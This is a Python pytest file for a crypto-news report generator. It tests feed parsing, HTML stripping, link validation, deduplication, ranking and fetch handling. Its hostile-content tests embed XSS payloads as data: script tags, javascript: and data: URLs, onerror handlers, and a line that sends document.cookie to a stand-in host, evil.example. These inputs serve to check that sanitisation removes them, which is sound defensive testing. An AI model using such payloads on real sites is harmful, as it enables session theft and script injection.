"""News: real feeds parsed from bytes, hostile content, day filter, dedupe, ranking,
conditional GET, partial failures, the bundled sample."""

from __future__ import annotations

import json
from datetime import UTC, date, datetime
from pathlib import Path

import httpx
import pytest

from reportgen.config import Config, HttpSettings, config_from_mapping
from reportgen.errors import FetchError, ParseError
from reportgen.http import Http
from reportgen.models import RawPayload
from reportgen.news.items import NewsItem, items_from_blockbeats, items_from_feed
from reportgen.news.rank import jaccard, merge, rank, split, tokens
from reportgen.news.text import (
    clean_summary,
    clean_title,
    first_sentences,
    safe_link,
    strip_html,
)
from reportgen.sample import load_raws, sample_days
from reportgen.sources.base import FetchContext, ParseContext
from reportgen.sources.news import NewsSource

FIX = Path(__file__).resolve().parents[1] / "fixtures" / "news"


def _read(name: str) -> bytes:
    return (FIX / name).read_bytes()


# --- real recorded feeds ------------------------------------------------------------

def test_coindesk_real_feed() -> None:
    items = items_from_feed(_read("coindesk_rss_2026-09-30.xml"), "CoinDesk", "UTC")
    assert len(items) == 25
    assert all(i.link and i.link.startswith("https://www.coindesk.com/") for i in items)
    assert all(i.published.tzinfo is not None for i in items)
    assert all("<" not in i.title and "<" not in i.summary for i in items)
    # Every item's text sits in <description>, followed by an empty <dc:description/> that
    # feedparser reads onto the same key: the empty one must not erase it. One item has an
    # empty <description/> and stays without a summary.
    assert sum(1 for i in items if i.summary) == 24
    assert items[0].summary == (
        "In the first half of this year, the sector poured millions into lobbying, with most of "
        "it tied to pushing the U.S. market structure bill to a goal it never reached.")


def test_an_empty_summary_element_never_erases_the_text() -> None:
    feed = b"""<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
    xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>t</title>
    <item><title>A</title><pubDate>Wed, 11 Jun 2025 09:00:00 GMT</pubDate>
      <description>First text.</description><dc:description /></item>
    <item><title>B</title><pubDate>Wed, 11 Jun 2025 09:00:00 GMT</pubDate>
      <description><![CDATA[Second text.]]></description><dc:description><![CDATA[]]></dc:description></item>
    <item><title>C</title><pubDate>Wed, 11 Jun 2025 09:00:00 GMT</pubDate>
      <description>  </description><content:encoded><![CDATA[<p>From content.</p>]]></content:encoded></item>
    <item><title>D</title><pubDate>Wed, 11 Jun 2025 09:00:00 GMT</pubDate>
      <description>Kept.</description><dc:description>Not read.</dc:description></item>
    </channel></rss>"""
    items = items_from_feed(feed, "X", "UTC")
    assert [i.summary for i in items] == ["First text.", "Second text.", "From content.", "Kept."]


@pytest.mark.parametrize(("text", "kept"), [
    ("The U.S. SEC delayed it. Bitcoin rose 3.5% to $110,000. Third.",
     "The U.S. SEC delayed it. Bitcoin rose 3.5% to $110,000."),
    ("DeFi tokens, e.g. UNI and AAVE, rallied. BTC fell. Third.",
     "DeFi tokens, e.g. UNI and AAVE, rallied. BTC fell."),
    ("Funds (i.e. ETFs) bought $3.5B on Sept. 30 at 2 a.m. UTC. It is big. Third.",
     "Funds (i.e. ETFs) bought $3.5B on Sept. 30 at 2 a.m. UTC. It is big."),
    ("Mr. Powell spoke to J. Smith of Acme Inc. on Tuesday. Markets rallied. Third.",
     "Mr. Powell spoke to J. Smith of Acme Inc. on Tuesday. Markets rallied."),
    ('He said: "It is over." The market fell. Third.', 'He said: "It is over." The market fell.'),
    ("Is it over? Yes! Third.", "Is it over? Yes!"),
    ("比特币上涨。以太坊下跌。第三句。", "比特币上涨。以太坊下跌。"),
    ("One sentence only, no full stop", "One sentence only, no full stop"),
    ("v1.2.3 shipped. 2025 was big. Third.", "v1.2.3 shipped. 2025 was big."),
])
def test_first_sentences(text: str, kept: str) -> None:
    assert first_sentences(text) == kept


def test_cointelegraph_real_feed_html_description_becomes_text() -> None:
    items = items_from_feed(_read("cointelegraph_rss_2026-09-30_first3.xml"), "CT", "UTC")
    assert len(items) == 3
    first = items[0]
    assert first.summary.startswith("Petrobras developed two Cardano-based applications")
    assert "<" not in first.summary and "img" not in first.summary
    assert first.link.startswith("https://cointelegraph.com/news/brazils-petrobras")
    assert first.published == datetime(2026, 9, 30, 17, 17, 54, tzinfo=UTC)
    assert items[2].title == "Could THORChain face prosecution over stolen Bitget funds?"


def test_heise_atom_times_converted_to_report_zone() -> None:
    items = items_from_feed(_read("heise_developer_atom_2016-02-01.atom"), "heise",
                            "Europe/Berlin")
    assert len(items) == 15
    first = items[0]
    # <published>2016-02-01T17:22:00+01:00</published>
    assert first.published.isoformat() == "2016-02-01T17:22:00+01:00"
    assert str(first.published.tzinfo) == "Europe/Berlin"
    assert first.summary.startswith("Die nun verfügbare Version 10")


def test_github_atom_relative_links_are_dropped() -> None:
    items = items_from_feed(_read("github_gulp_releases_atom_2015-06-01.atom"), "gh", "UTC")
    assert len(items) == 10
    assert all(i.link is None for i in items)  # hrefs are "/gulpjs/gulp/releases/tag/..."
    assert items[0].title == "v3.9.0" and items[0].summary == "3.9.0"


def test_reddit_escaped_html_description_becomes_text() -> None:
    items = items_from_feed(_read("reddit_frontpage_rss_2015-11-12.xml"), "reddit", "UTC")
    assert items and all("<" not in i.summary and "&lt;" not in i.summary for i in items)
    assert items[0].summary.startswith("submitted by cakebeerandmorebeer")


def test_blockbeats_docs_examples() -> None:
    flash = items_from_blockbeats(_read("blockbeats_open_flash_docs_example_2023-05-28.json"),
                                  "BlockBeats", "Asia/Shanghai")
    assert flash[0].link == "https://m.theblockbeats.info/flash/147280"
    assert flash[0].published.isoformat() == "2023-05-28T20:00:43+08:00"
    info = items_from_blockbeats(
        _read("blockbeats_open_information_docs_example_2023-05-25.json"), "BlockBeats", "UTC")
    # "page" is a string there and the key "column " has a trailing space: both tolerated.
    assert info[0].summary == "了解和区分加密货币的原生资产与跨链桥资产的重要性。"


def test_not_a_feed_raises_and_never_reads_files() -> None:
    # feedparser would treat raw bytes as a file name; we pass a stream.
    with pytest.raises(ParseError, match="not an RSS/Atom feed"):
        items_from_feed(b"/etc/passwd", "x", "UTC")
    with pytest.raises(ParseError, match="expected status 0"):
        items_from_blockbeats(b'{"status": 1, "message": "err"}', "BlockBeats", "UTC")


# --- hostile content -------------------------------------------------------------------

HOSTILE = f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>evil</title>
<item><title>&lt;script&gt;alert(1)&lt;/script&gt;Bitcoin &amp; friends</title>
  <link>javascript:alert(document.cookie)</link>
  <description><![CDATA[<p onclick="steal()">Read <b>this</b><img src=x onerror="alert(2)"></p>
  <script>document.location='https://evil.example/'+document.cookie</script>&amp;copy;]]>
  </description>
  <pubDate>Wed, 11 Jun 2025 10:00:00 +0000</pubDate></item>
<item><title>{"A" * 10_000}</title><link>data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;</link>
  <pubDate>Wed, 11 Jun 2025 11:00:00 +0000</pubDate></item>
<item><title>word {"x" * 20} {"long words " * 2000}</title><link>/relative/junk</link>
  <pubDate>Wed, 11 Jun 2025 12:00:00 +0000</pubDate></item>
<item><title>Fine</title><link>https://ok.example/a?b=1</link>
  <pubDate>Wed, 11 Jun 2025 13:00:00 +0000</pubDate></item>
</channel></rss>""".encode()


def test_hostile_entries_come_out_plain() -> None:
    items = items_from_feed(HOSTILE, "evil", "UTC")
    script, huge, words, fine = items
    assert script.title == "Bitcoin & friends"
    assert script.link is None
    assert "<" not in script.summary and "alert" not in script.summary
    assert "onclick" not in script.summary and "document" not in script.summary
    assert script.summary.startswith("Read this")
    assert huge.link is None and len(huge.title) <= 300 and huge.title.endswith("…")
    assert words.link is None and len(words.title) <= 300 and words.title.endswith("…")
    assert words.title[:-1].split()[-1] in {"long", "words"}  # cut on a word boundary
    assert fine.link == "https://ok.example/a?b=1"


def test_blockbeats_hostile_fields() -> None:
    body = json.dumps({"status": 0, "data": {"page": 1, "data": [
        {"title": "<img src=x onerror=alert(1)>HYPE up", "content": "<script>x()</script>ok",
         "link": "javascript:alert(1)", "url": "https://www.theblockbeats.info/flash/1",
         "create_time": "1749643200"},
        {"title": "no time", "create_time": "soon"},
    ]}}).encode()
    [item] = items_from_blockbeats(body, "BlockBeats", "UTC")
    assert item.title == "HYPE up" and item.summary == "ok"
    assert item.link == "https://www.theblockbeats.info/flash/1"


@pytest.mark.parametrize("url", [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "/relative", "//host/x",
    "ftp://host/x", "http://", "https://ex ample.com", "https://exa\nmple.com/", "vbscript:x",
    'https://example.com/"onmouseover=x', "",
])
def test_safe_link_rejects(url: str) -> None:
    assert safe_link(url) is None


def test_text_helpers() -> None:
    assert strip_html("<p>a</p><p>b&nbsp;&amp; c</p>") == "a b & c"
    assert strip_html("BTC < $100k and > $90k") == "BTC < $100k and > $90k"
    assert clean_title("  many   spaces \n here ") == "many spaces here"
    text = "word " * 100
    assert len(clean_summary(text)) <= 300 and clean_summary(text).endswith("word…")


# --- day filter, dedupe, ranking -----------------------------------------------------------

def _item(title: str, source: str, hour: int, day: int = 11, link: str | None = None,
          summary: str = "") -> NewsItem:
    return NewsItem(title=title, link=link, source=source, summary=summary,
                    published=datetime(2025, 6, day, hour, 0, tzinfo=UTC))


def test_report_day_in_zone() -> None:
    late = _item("Late story", "A", 23, day=10)  # 2025-06-10 23:00 UTC = 06-11 07:00 +08
    assert [s.title for s in rank([late], date(2025, 6, 11), "Asia/Shanghai")] == ["Late story"]
    assert rank([late], date(2025, 6, 11), "UTC") == []


def test_near_duplicates_merge_across_outlets() -> None:
    items = [
        _item("SEC approves spot Ether ETFs", "CoinDesk", 9, link="https://a.example/1"),
        _item("SEC approves spot ether ETF applications", "Decrypt", 10),
        _item("Bitcoin miners sell as hashprice falls", "The Block", 11),
        _item("Bitcoin tops $70K", "Cointelegraph", 12),
    ]
    assert jaccard(tokens(items[0].title), tokens(items[1].title)) >= 0.5
    assert jaccard(tokens(items[2].title), tokens(items[3].title)) < 0.5
    groups = merge(items)
    assert [len(g) for g in groups] == [2, 1, 1]
    stories = rank(items, date(2025, 6, 11), "UTC")
    top = stories[0]
    assert top.sources == ["CoinDesk", "Decrypt"] and top.link == "https://a.example/1"
    assert top.macro  # SEC / ETF


def test_same_link_merges_even_with_different_titles() -> None:
    items = [_item("One title", "A", 9, link="https://x.example/s"),
             _item("Completely other words", "B", 10, link="https://x.example/s")]
    assert len(merge(items)) == 1


def test_split_and_caps() -> None:
    names = ["Solana", "Dogecoin", "Cardano", "Aptos", "Sui", "Tron", "Avalanche", "Polkadot",
             "Litecoin", "Monero", "Tezos", "Algorand"]
    items = [_item(f"{name} climbs", "A", i) for i, name in enumerate(names)]
    items += [_item("Fed holds interest rates steady", "B", 13),
              _item("Tariffs weigh on risk assets", "C", 14)]
    stories = rank(items, date(2025, 6, 11), "UTC")
    macro, highlights = split(stories, max_macro=5, max_highlights=8)
    assert {s.title for s in macro} == {"Fed holds interest rates steady",
                                        "Tariffs weigh on risk assets"}
    assert len(highlights) == 8
    assert all(not s.macro for s in highlights)


def test_ranking_is_deterministic() -> None:
    items = [_item("Alpha coin launches", "A", 9), _item("Beta coin launches", "B", 9)]
    first = [s.title for s in rank(items, date(2025, 6, 11), "UTC")]
    second = [s.title for s in rank(list(reversed(items)), date(2025, 6, 11), "UTC")]
    assert first == second


# --- source: fetch and parse -------------------------------------------------------------

CT_URL = "https://cointelegraph.com/rss"
BB_URL = ("https://api.theblockbeats.news/v1/open-api/open-flash"
          "?page=1&size=50&type=push&lang=en")


def _config() -> Config:
    return config_from_mapping({"news": {"feeds": [
        {"name": "Cointelegraph", "url": CT_URL},
        {"name": "BlockBeats", "url": BB_URL, "kind": "blockbeats"},
    ]}})


def _ctx(client: httpx.AsyncClient, config: object) -> FetchContext:
    return FetchContext(report_date=date(2026, 9, 30), today=date(2026, 9, 30),
                        config=config, http=client)  # type: ignore[arg-type]


async def test_conditional_get_304_uses_archived_copy() -> None:
    ct = _read("cointelegraph_rss_2026-09-30_first3.xml")
    previous = [RawPayload(source="news", url=CT_URL, status=200, body=ct,
                           fetched_at=datetime(2026, 9, 30, 8, tzinfo=UTC),
                           headers={"etag": '"abc"', "last-modified": "Wed, 30 Sep 2026 08:00:00 GMT"})]
    seen: dict[str, httpx.Headers] = {}

    def handler(request: httpx.Request) -> httpx.Response:
        seen[request.url.host] = request.headers
        if request.url.host == "cointelegraph.com":
            assert request.headers["if-none-match"] == '"abc"'
            assert request.headers["if-modified-since"] == "Wed, 30 Sep 2026 08:00:00 GMT"
            return httpx.Response(304)
        return httpx.Response(200, content=_read(
            "blockbeats_open_flash_docs_example_2023-05-28.json"), headers={"etag": "W/1"})

    config = _config()
    source = NewsSource(config, previous=previous)
    async with Http(HttpSettings(), transport=httpx.MockTransport(handler)) as client:
        raws = await source.fetch(_ctx(client, config))
    ct_raw = next(r for r in raws if r.url == CT_URL)
    assert ct_raw.status == 200 and ct_raw.body == ct
    assert ct_raw.headers["x-reportgen-not-modified"] == "1"
    assert "if-none-match" not in seen["api.theblockbeats.news"]
    digest = source.parse(raws, ParseContext(report_date=date(2026, 9, 30)))
    assert digest.feeds_ok == ["Cointelegraph", "BlockBeats"]
    assert digest.items_on_day == 3
    assert {s.title for s in digest.macro + digest.highlights} >= {
        "Bitget ‘gradually back to usual’ as protection fund reaches $309M"}


async def test_one_failing_feed_does_not_sink_the_rest() -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        if request.url.host == "cointelegraph.com":
            return httpx.Response(404)
        return httpx.Response(200, content=_read(
            "blockbeats_open_flash_docs_example_2023-05-28.json"))

    config = _config()
    async with Http(HttpSettings(), transport=httpx.MockTransport(handler)) as client:
        raws = await NewsSource(config).fetch(_ctx(client, config))
    digest = NewsSource(config).parse(raws, ParseContext(report_date=date(2023, 5, 28)))
    assert list(digest.feeds_failed) == ["Cointelegraph"]
    assert "404" in digest.feeds_failed["Cointelegraph"]
    assert [s.title for s in digest.highlights] == ["MULTI短时上涨逼近5美元，24小时涨幅超40%"]


async def test_every_feed_failing_raises() -> None:
    config = _config()
    async with Http(HttpSettings(), transport=httpx.MockTransport(lambda r: httpx.Response(403))) as c:
        with pytest.raises(FetchError, match="every feed failed"):
            await NewsSource(config).fetch(_ctx(c, config))


def test_unreadable_payloads_raise_parse_error() -> None:
    raw = RawPayload(source="news", url=CT_URL, status=200, body=b"<html>blocked</html>",
                     fetched_at=datetime(2026, 9, 30, tzinfo=UTC))
    with pytest.raises(ParseError, match="no feed could be read"):
        NewsSource(_config()).parse([raw], ParseContext(report_date=date(2026, 9, 30)))


def test_sample_days() -> None:
    source = NewsSource(config_from_mapping({}))
    for day in sample_days():
        digest = source.parse(load_raws("news", day), ParseContext(report_date=day))
        if day == date(2025, 6, 11):
            titles = [s.title for s in digest.macro]
            assert set(titles) == {
                "Divergence Between U.S. Institutional and Retail Investors Resurfaces",
                "The tokenization of US stocks is heating up again. Which on-chain platforms "
                "support trading US stocks?",
            }
            assert len(digest.highlights) == 5
            assert digest.note is None
            linked = [s for s in digest.macro if s.link]
            assert [s.link for s in linked] == ["https://en.theblockbeats.news/news/58527"]
        else:
            assert digest.macro == digest.highlights == []
            assert digest.note == "no headlines recorded for this sample day"


def test_summary_is_two_sentences_of_plain_text_within_280_characters() -> None:
    from reportgen.news.text import SUMMARY_MAX, clean_summary

    raw = ("<p>The U.S. SEC <b>delayed</b> its decision on Tuesday. Bitcoin rose 3.5% to "
           "$110,000 within the hour.</p><p>A third sentence that is not kept.</p>")
    assert clean_summary(raw) == ("The U.S. SEC delayed its decision on Tuesday. Bitcoin rose "
                                  "3.5% to $110,000 within the hour.")
    long = clean_summary("<p>" + "word " * 200 + "</p>")
    assert len(long) <= SUMMARY_MAX == 280 and long.endswith("…")


def test_a_headline_dated_to_the_day_shows_no_time(tmp_path) -> None:
    """The sample's headlines carry the day only (x-reportgen-date-only): no format shows
    their placeholder 12:00 UTC, and the sources list does not date the feed by it."""
    from datetime import date

    from reportgen.config import config_from_mapping
    from reportgen.pipeline import run
    from reportgen.publish.email import render_email_text

    day = date(2025, 6, 11)
    config = config_from_mapping({"output": str(tmp_path)})
    result = run(config, day, sample=True, formats=["html", "md"], send=False, publish=False)
    folder = tmp_path / "reports" / day.isoformat()
    for text in ((folder / "brief.md").read_text(), (folder / "brief.html").read_text(),
                 render_email_text(result.brief, web_url=None, history_url=None)):
        assert "12:00" not in text
    assert "— BlockBeats, 2025-06-11\n" in (folder / "brief.md").read_text()
